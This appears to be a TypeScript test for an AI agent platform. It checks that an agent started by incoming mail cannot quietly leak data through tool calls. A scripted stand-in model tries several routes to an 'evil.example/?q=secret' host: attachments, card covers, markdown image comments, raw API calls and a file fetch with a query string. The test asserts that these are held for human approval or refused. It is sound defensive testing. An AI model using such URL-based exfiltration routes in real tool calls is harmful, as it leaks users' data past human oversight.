import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from 'vitest';
import { defaultIntervals } from '#clock';
import { eventScene } from './event-scene.ts';
import type { Answer } from './workbench.ts';

const evil = 'https://evil.example/?q=secret';
const fixed = 'https://builder.example/logo.png';
const named = 'https://contoso.example/menu';
const input = (name: string, type: string, required = true) => ({ name, type, required, description: name });

/** Where files are, and what was asked for there. */
const openSite = async () => {
  const visits: string[] = [];
  const server = createServer(({ url = '' }, answer) => {
    visits.push(url);
    answer.end('menu');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = () => new Promise((resolve) => server.close(resolve).closeAllConnections());
  const file = `http://127.0.0.1:${(server.address() as AddressInfo).port}/menu.txt`;
  return { file, visits, [Symbol.asyncDispose]: async () => void (await close()) };
};

test('an agent that an event started has the board load nothing that would tell a stranger, and still attaches what it may', async () => {
  await using site = await openSite();
  await using scene = await eventScene({
    ...{ mail: true, model: true },
    intervals: { lookMs: 5_000, writeDeadlineMs: defaultIntervals.writeDeadlineMs },
  });
  const { board } = scene;
  const [mail, account] = [await scene.bench.connectMail(), await scene.connectBoard()];
  const list = board.newList();
  const card = board.newCard({ list });
  const newTool = async (name: string, inputs: object[], step: string, given: object, of = account) =>
    (
      await scene.made('POST', '/v1/tools', {
        ...{ name, inputs },
        steps: [{ key: 'it', step, account: { id: of }, input: given, permission: 'autopilot' }],
      })
    ).id;
  const tools = [
    await newTool('Attach link', [input('url', 'string')], 'board.attach', { cardId: card.id, url: '{{inputs.url}}' }),
    await newTool('Attach logo', [input('name', 'string')], 'board.attach', {
      ...{ cardId: card.id, url: fixed, name: '{{inputs.name}}' },
    }),
    await newTool('New card', [input('attachments', 'array')], 'board.create_card', {
      ...{ idList: list.id, name: 'Bread', desc: `![](${fixed})`, attachments: '{{inputs.attachments}}' },
    }),
    await newTool(
      'Call API',
      [input('method', 'string'), input('endpoint', 'string'), input('body', 'object', false)],
      'board.api_call',
      { method: '{{inputs.method}}', endpoint: '{{inputs.endpoint}}', body: '{{inputs.body}}' },
    ),
    await newTool(
      'Send file',
      [input('file', 'string')],
      'mail.send_email',
      { to: ['ben@sandbox.test'], subject: 'File', body: 'Here', attachments: ['{{inputs.file}}'] },
      mail,
    ),
  ];
  // What only writes is no matter of autopilot, so neither is this.
  const agent = await scene.made('POST', '/v1/agents', {
    name: 'Gullible',
    tools: tools.map((toolId) => ({ toolId, permission: 'approval' })),
    runner: { type: 'model', model: 'sandbox-script', input: {}, maxTurns: 10 },
  });
  const raw = (method: string, endpoint: string, body: object = {}) =>
    ['call_api', { method, endpoint, body }] as const;
  const asked: readonly (readonly [string, object])[] = [
    ['attach_link', { url: evil }],
    ['attach_link', { url: `${named}?q=secret` }],
    ['new_card', { attachments: [{ url: evil }] }],
    raw('POST', `/1/cards/${card.id}/attachments`, { url: evil }),
    raw('POST', `/1/cards/${card.id}/attachments?url=${encodeURIComponent(evil)}`),
    raw('POST', '/1/cards', { idList: list.id, urlSource: evil }),
    raw('PUT', `/1/cards/${card.id}`, { cover: { url: evil } }),
    raw('POST', `/1/cards/${card.id}/actions/comments`, { text: `![](${evil})` }),
    // Loaded, because the event names it; a person is asked about the mail.
    ['send_file', { file: site.file }],
  ];
  // By the time somebody could be asked, it would have been told.
  const refused: readonly (readonly [string, object])[] = [['send_file', { file: `${site.file}?q=secret` }]];
  const done: readonly (readonly [string, object])[] = [
    ['attach_link', { url: named }],
    ['attach_logo', { name: 'Logo' }],
  ];
  await scene.newTrigger(agent.id, 'mail.new_email', mail);
  const orders = [...asked, ...refused, ...done];
  const post = (url: string, body: object) =>
    fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
  const script = `${scene.bench.model.url}/_control/script`;
  const runs = async (): Promise<Answer['body'][]> =>
    (await scene.made('GET', `/v1/runs?agentId=${agent.id}&limit=100`)).items;
  const isOver = ({ status }: Answer['body']) => status !== 'queued' && status !== 'running';
  const isEnded = (run: Answer['body']) => isOver(run) && run.status !== 'waiting_approval';
  let resting: Answer['body'][] = [];
  for (const [n, [name, given]] of orders.entries()) {
    // Moves that nobody came to are made by the next.
    const end = n < asked.length ? [] : [{ say: 'Done.' }];
    await post(script, { moves: [{ call: [{ name, arguments: given }] }, ...end] });
    await post(`${scene.bench.mail.url}/_control/deliver`, {
      ...{ to: 'ada@sandbox.test', from: `luis${n}@contoso.example`, subject: `Order ${n}` },
      body: `The menu is at ${named}, as always, to be printed from ${site.file}.`,
    });
    resting = await scene.until(runs, (found) => found.length === n + 1 && found.every(isOver));
  }
  await post(script, { name: 'silent' });
  const ends = JSON.stringify(resting.map(({ about, status, error }) => ({ about, status, error })));
  const { items: pending } = await scene.made('GET', '/v1/approvals?status=pending&limit=100');
  const links = () => card.attachments.map(({ url }) => url);
  expect([pending.length, links().toSorted()], ends).toEqual([asked.length, [fixed, named].toSorted()]);
  expect(board.comments(card.id)).toEqual([]);
  expect(site.visits).toEqual(['/menu.txt']);

  const waiting: Answer['body'][] = await Promise.all(
    pending.map(({ id }: Answer['body']) => scene.made('GET', `/v1/approvals/${id}`)),
  );
  // What waits can be changed; then it is that which is loaded.
  const other = `${named}?from=person`;
  const attaching = waiting.filter(({ stepId }) => stepId === 'board.attach');
  expect(attaching).toHaveLength(2);
  expect(attaching[0]?.cause.why).toContain('whoever is there would learn of it');
  const [first, second] = attaching;
  const approve = async ({ id, runId }: Answer['body'], digest: string) => {
    await scene.made('POST', `/v1/approvals/${id}/approve`, { digest });
    return scene.until(() => scene.run(runId), isEnded);
  };
  expect((await approve(first, first.digest)).status).toBe('succeeded');
  const edited = await scene.made('POST', `/v1/approvals/${second.id}/edit`, { changes: { url: other } });
  expect((await approve(second, edited.digest)).status).toBe('succeeded');
  expect(links().toSorted()).toEqual([fixed, named, first.input.url, other].toSorted());

  // The card was made before anybody was asked about what is attached to it.
  const begun = waiting.find(({ stepId }) => stepId === 'board.create_card');
  const changes = { attachments: [{ url: other }] };
  const refusal = await scene.bench.owned('POST', `/v1/approvals/${begun.id}/edit`, { changes });
  expect([refusal.status, refusal.body.error?.message]).toEqual([409, expect.stringContaining('approve or reject')]);
  expect((await approve(begun, begun.digest)).status).toBe('succeeded');
  const bread = board.cardsIn(list.id).filter(({ name }) => name === 'Bread');
  expect(bread.map(({ attachments }) => attachments.map(({ url }) => url))).toEqual([[evil]]);

  // Started by a person, it does as it is told.
  const byHand = `${evil}&by=hand`;
  await post(script, { moves: [{ call: [{ name: 'attach_link', arguments: { url: byHand } }] }, { say: 'Done.' }] });
  const { runId } = await scene.made('POST', `/v1/agents/${agent.id}/runs`, { input: {} });
  expect((await scene.until(() => scene.run(runId), isEnded)).status).toBe('succeeded');
  expect(links()).toContain(byHand);
}, 120_000);
